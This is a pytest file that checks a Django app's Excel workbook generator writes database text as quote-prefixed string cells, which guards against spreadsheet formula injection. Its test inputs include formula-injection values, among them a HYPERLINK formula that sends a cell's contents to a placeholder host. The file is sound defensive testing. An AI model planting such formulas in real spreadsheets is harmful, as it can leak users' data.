"""Text from the database never becomes a formula in a generated workbook (issue 8).

Site names, contacts, e-mail addresses and Begründungen are written as string cells
with Excel's ``quotePrefix`` when they start like a formula; the template made for such
a site imports cleanly and keeps the text exactly.
"""

import io

import openpyxl.xml
import pytest
from openpyxl import load_workbook

from datasheets.choices import RevisionStatus
from datasheets.layout import IND_JUSTIFICATION, SHEET_COVER, SHEET_INDICATORS, layout_for
from datasheets.models import IndicatorValue
from datasheets.services import datasheet_template_build, datasheet_upload, site_cover
from datasheets.template import SheetValues, workbook_build, workbook_bytes
from indicators.models import CatalogueVersion
from tests.datasheets.helpers import consistent_values
from tests.factories import CentreFactory, SiteFactory

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.org/?leak="&A1,"Klick")',
    "+49 30 1234567",
    "-x",
    "@SUM(A1)",
    "\tcmd",
    "\r=1+1",
]
COVER_TEXT_KEYS = ("registration_number", "centre", "site", "contact", "email", "state", "documentation_system")


def _layout(catalogue):
    return layout_for(CatalogueVersion.objects.get(pk="KJ2022"))


def _cover(layout, text: str) -> dict[str, object]:
    cover = {key: text for key in COVER_TEXT_KEYS}
    cover.update(indicator_year=2022, audit_year=2023, oncobox="", created="2023-01-15")
    return cover


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cover_and_justification_are_text_cells_with_quote_prefix(db, catalogue, text):
    layout = _layout(catalogue)
    code = layout.indicators[1].code
    values = SheetValues(indicators={code: (None, None, text)})
    cells = []
    wb = workbook_build(layout, _cover(layout, text), values)
    cells += [wb[SHEET_COVER].cell(row=layout.cover_row_number(k), column=2) for k in COVER_TEXT_KEYS]
    cells.append(wb[SHEET_INDICATORS][layout.indicator_cell(code, IND_JUSTIFICATION)])
    for cell in cells:
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), cell.coordinate

    # ... and so they stay in the saved file
    saved = load_workbook(io.BytesIO(workbook_bytes(layout, _cover(layout, text), values)))
    for cell in cells:
        back = saved[cell.parent.title][cell.coordinate]
        assert (back.data_type, back.quotePrefix) == ("s", True), cell.coordinate
        # openpyxl writes through lxml when it is installed (xhtml2pdf brings it), which
        # keeps a CR as _x000D_; the standard library's writer leaves it to XML, read as LF
        assert back.value == (text if openpyxl.xml.LXML else text.replace("\r", "\n")), cell.coordinate


def test_harmless_text_gets_no_quote_prefix(db, catalogue):
    layout = _layout(catalogue)
    wb = workbook_build(layout, _cover(layout, "Uniklinikum Aachen"))
    cell = wb[SHEET_COVER].cell(row=layout.cover_row_number("site"), column=2)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("Uniklinikum Aachen", "s", False)
    year = wb[SHEET_COVER].cell(row=layout.cover_row_number("indicator_year"), column=2)
    assert (year.value, year.data_type) == (2022, "n")


@pytest.mark.django_db(transaction=True)
def test_template_of_a_hostile_site_imports_cleanly(catalogue, coordinator, site_a):
    """A site whose Reg.-Nr., name, centre and contact start like formulas: its template
    (filled as a centre would, Begründungen included) imports with the Deckblatt matching
    and the texts unchanged."""
    site = SiteFactory(
        registration_number="-KHT-X1",
        name='=HYPERLINK("http://example.org","Klinikum")',
        city="Berlin",
        centre=CentreFactory(name="@SUM(A1) Zentrum"),
        contact_name="+49 30 1234567",
        contact_email="x@example.org",
        documentation_system="=1+1",
    )
    layout = _layout(catalogue)
    filled = consistent_values(layout)
    justification = "=1+1 Sondereffekt im Kennzahlenjahr"
    filled.indicators = {
        code: (num, den, justification if text else "") for code, (num, den, text) in filled.indicators.items()
    }
    _name, content = datasheet_template_build(site=site, indicator_year=2022, values=filled)
    revision = datasheet_upload(content=content, filename="ds.xlsx", expected_site=site)
    revision.refresh_from_db()
    assert revision.status == RevisionStatus.EVALUATED, revision.errors
    assert revision.site == site
    expected = site_cover(site, 2022, CatalogueVersion.objects.get(pk="KJ2022"))
    for key in ("registration_number", "centre", "site", "contact", "documentation_system"):
        assert revision.cover[key] == expected[key], key
    texts = set(IndicatorValue.objects.filter(revision=revision).values_list("justification", flat=True))
    assert justification in texts
